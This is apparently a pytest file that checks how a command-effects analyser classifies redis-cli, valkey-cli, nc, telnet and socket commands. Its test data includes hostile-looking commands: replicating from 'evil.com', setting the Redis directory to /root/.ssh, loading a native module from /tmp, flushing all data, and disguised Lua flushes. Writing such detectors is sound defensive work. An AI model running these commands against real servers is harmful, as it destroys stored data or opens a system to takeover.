"""redis-cli."""

from __future__ import annotations

from typing import Any

import pytest
from support.databases import told
from support.reading import effects

from enactd.effects.model import ChangeStore


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("redis-cli GET session:1", [("store", "read")]),
        ("redis-cli INFO memory", [("store", "read")]),
        ("redis-cli ping", [("store", "read")]),
        ("redis-cli FLUSHALL", [("store", "flush", "everything")]),
        ("redis-cli -h h -p 6380 -n 2 flushdb async", [("store", "flush", "everything")]),
        ("redis-cli -u redis://localhost:6379/0 del a b", [("store", "delete")]),
        ("redis-cli 'DEL a'", [("store", "delete")]),
        ("redis-cli SET a 1", [("store", "write")]),
        ("redis-cli config get maxmemory", [("store", "read")]),
        ("redis-cli config set dir /root/.ssh", [("store", "write")]),
        ("redis-cli replicaof evil.com 6379", [("store", "flush", "everything")]),
        ("redis-cli replicaof no one", [("store", "read")]),
        ("redis-cli shutdown nosave", [("ChangeService",)]),
        ("redis-cli module load /tmp/x.so", [("code", "native")]),
        ("redis-cli eval \"return redis.call('FLUSHALL')\" 0", [("store", "flush", "everything")]),
        ("redis-cli eval 'return redis.call(ARGV[1])' 0 x", [("Opaque",)]),
        ("redis-cli eval \"return redis.call('del', KEYS[1])\" 1 a", [("store", "delete")]),
        (
            "redis-cli eval \"for _, k in ipairs(redis.call('keys', 's:*')) do redis.call('del', k) end\" 0",
            [("store", "read"), ("store", "delete", "everything")],
        ),
        ("redis-cli eval \"local call = redis.call; call('flushall')\" 0", [("Opaque",)]),
        ("redis-cli eval \"redis['call']('flushall')\" 0", [("Opaque",)]),
        ('redis-cli "$CMD"', [("Opaque",)]),
        ("redis-cli --scan --pattern 'x:*'", []),
        ("redis-cli --bigkeys", []),
        ("redis-cli --rdb x.rdb", [("WritePath",)]),
        ("redis-cli --cluster info h:1", [("store", "read")]),
        ("valkey-cli FT.DROPINDEX i", [("store", "delete")]),
        ("redis-cli JSON.GET a", [("store", "read")]),
        ("redis-cli --help", []),
    ],
)
def test_effects(command: str, expected: list[tuple[Any, ...]]) -> None:
    """Reads, writes, deletions and flushes."""
    assert expected == told(command)


def test_commands_on_standard_input() -> None:
    """One command per line."""
    assert [("store", "read"), ("store", "flush", "everything")] == told("redis-cli", stdin="GET a\nFLUSHALL\n")


def test_values_are_not_shown() -> None:
    """What is stored may be a secret; only keys are named."""
    found = [effect.what for effect in effects("redis-cli SET token hunter2") if isinstance(effect, ChangeStore)]
    assert ["SET token"] == found


def test_keys_from_a_listing_are_deleted_at_large() -> None:
    """Which keys go is known only to the listing."""
    found = effects("redis-cli keys 'a*' | xargs redis-cli del")
    assert [False, True] == [e.everything for e in found if isinstance(e, ChangeStore)]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("printf 'FLUSHALL\\r\\n' | nc 127.0.0.1 6379", [("SendData",), ("store", "flush", "everything")]),
        ("echo GET a | nc localhost 6379", [("SendData",), ("store", "read")]),
        ("echo FLUSHALL | telnet localhost 6379", [("SendData",), ("store", "flush", "everything")]),
        ("echo FLUSHALL | nc localhost 8080", [("SendData",)]),
        (
            "python3 -c \"import socket; s = socket.create_connection(('localhost', 6379)); s.sendall(b'FLUSHALL\\r\\n')\"",
            [("SendData",), ("store", "flush", "everything")],
        ),
    ],
)
def test_a_plain_connection_speaks_the_same_commands(command: str, expected: list[tuple[Any, ...]]) -> None:
    """Whatever opens the store's port."""
    assert expected == told(command)
